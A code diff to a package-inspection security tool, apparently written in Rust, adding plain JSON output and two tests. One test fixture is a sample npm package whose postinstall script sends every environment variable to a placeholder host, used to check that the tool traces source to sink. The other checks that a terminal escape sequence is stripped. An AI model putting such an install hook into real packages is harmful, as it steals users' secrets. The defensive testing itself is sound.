@@ -3,6 +3,7 @@
 use super::compared::{Compared, Followed};
 use super::{Inspected, frame};
 use crate::error::{Doing as _, Failure};
+use crate::output::plain_json;
 use customs_model::{Capability, Finding, Novelty, Severity, Standing, Zone, printable};
 use serde::Serialize;
 use std::fmt::Write as _;
@@ -254,5 +255,64 @@ pub(super) fn json(all: &[Inspected]) -> Result<String, Failure> {
         schema: "customs.inspect/1",
         targets,
     };
-    Ok(serde_json::to_string_pretty(&report).doing("write the report")? + "\n")
+    let text = serde_json::to_string_pretty(&report).doing("write the report")?;
+    Ok(plain_json(&text) + "\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use customs_inspect::{Content, Entry, Kind, Tree, inspect_tree};
+    use customs_rules::{RuleSet, judge_code};
+    use std::sync::Arc;
+
+    fn inspected(files: &[(&str, &str)]) -> Inspected {
+        let entry = |(path, text): &(&str, &str)| Entry {
+            path: format!("package/{path}"),
+            content: Content::Whole(text.as_bytes().into()),
+            length: text.len() as u64,
+            kind: Kind::Text,
+            executable: false,
+        };
+        let tree = Tree {
+            entries: files.iter().map(entry).collect(),
+            ..Tree::default()
+        };
+        let inspection = inspect_tree(&tree);
+        Inspected {
+            name: "left-1.0.1.tgz".to_owned(),
+            release: None,
+            verdict: judge_code(&inspection, &RuleSet::standard()),
+            inspection: Arc::new(inspection),
+            tree,
+            compared: None,
+            is_folder: false,
+        }
+    }
+
+    #[test]
+    fn a_proof_is_told_with_the_way_from_source_to_sink() {
+        let one = inspected(&[
+            (
+                "package.json",
+                r#"{"scripts": {"postinstall": "node setup.js"}}"#,
+            ),
+            (
+                "setup.js",
+                "const all = process.env;\nfetch('https://collect.invalid/v1', {\n  method: 'POST',\n  body: JSON.stringify(all),\n});\n",
+            ),
+        ]);
+        insta::assert_snapshot!(text(&one));
+    }
+
+    #[test]
+    fn what_could_not_be_read_is_told_and_no_text_of_a_stranger_steers_the_terminal() {
+        let one = inspected(&[
+            ("package.json", r#"{"main": "a.js"}"#),
+            ("a.js", "let \u{1b}[31m = ;"),
+        ]);
+        let text = text(&one);
+        assert!(!text.contains('\u{1b}'));
+        insta::assert_snapshot!(text);
+    }
 }
